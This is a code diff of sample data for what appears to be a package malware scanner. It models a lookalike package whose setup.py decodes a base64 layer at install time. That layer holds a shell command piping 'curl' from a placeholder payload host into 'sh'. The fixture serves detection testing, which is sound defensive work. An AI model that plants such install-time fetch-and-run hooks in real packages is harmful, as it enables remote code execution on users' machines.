@@ -118,8 +118,17 @@ enum Samples {
       ],
       layers: [
         ScanReport.Layer(
-          index: 0, parent: nil, path: "lookalike-1.0/setup.py", encodings: ["base64", "zlib"],
-          sha256: String(repeating: "34", count: 32), bytes: Array(layer.utf8))
+          index: 0, parent: nil, encodings: ["base64", "zlib"], sha256: String(repeating: "34", count: 32),
+          bytes: Array(layer.utf8), language: .python,
+          location: Location(
+            path: "lookalike-1.0/setup.py", range: range(of: "exec(base64.b64decode(\"cHJpbnQoMSk=\"))", in: setup)),
+          executedBy: "builtins.exec", runsAt: .install),
+        ScanReport.Layer(
+          index: 1, parent: 0, encodings: [], sha256: String(repeating: "56", count: 32),
+          bytes: Array("curl http://payload.example.invalid/\u{1b}[2J | sh".utf8), language: .shell,
+          location: Location(
+            path: "lookalike-1.0/setup.py", layer: 0, range: SourceRange(start: 10, end: 25)),
+          executedBy: "os.system", runsAt: .install),
       ],
       anomalies: [
         ArchiveAnomaly(.duplicateName, path: "lookalike-1.0/setup.py", message: "Two members have this name.")
